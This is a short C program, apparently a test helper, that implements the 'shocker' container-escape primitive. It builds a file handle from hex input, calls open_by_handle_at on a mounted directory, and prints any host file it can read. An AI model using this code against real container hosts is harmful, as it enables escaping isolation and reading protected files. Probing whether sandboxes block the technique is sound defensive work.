/* openhandle MOUNTDIR TYPE HEX: open_by_handle_at(MOUNTDIR, handle) and print
 * what it reads (the "shocker" escape). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
int main(int argc, char **argv)
{
	if (argc < 4)
		return 2;
	size_t len = strlen(argv[3]) / 2;
	struct file_handle *h = malloc(sizeof(*h) + len);
	h->handle_bytes = (unsigned)len;
	h->handle_type = atoi(argv[2]);
	for (size_t i = 0; i < len; i++) {
		unsigned v;
		sscanf(argv[3] + 2 * i, "%2x", &v);
		h->f_handle[i] = (unsigned char)v;
	}
	int mfd = open(argv[1], O_RDONLY | O_DIRECTORY);
	int fd = open_by_handle_at(mfd, h, O_RDONLY);
	fprintf(stderr, "openhandle: mount fd %d, open_by_handle_at -> %d %s\n", mfd, fd,
		fd < 0 ? strerror(errno) : "");
	char buf[4096];
	ssize_t n;
	while (fd >= 0 && (n = read(fd, buf, sizeof(buf))) > 0)
		(void)!write(1, buf, (size_t)n);
	return 0;
}
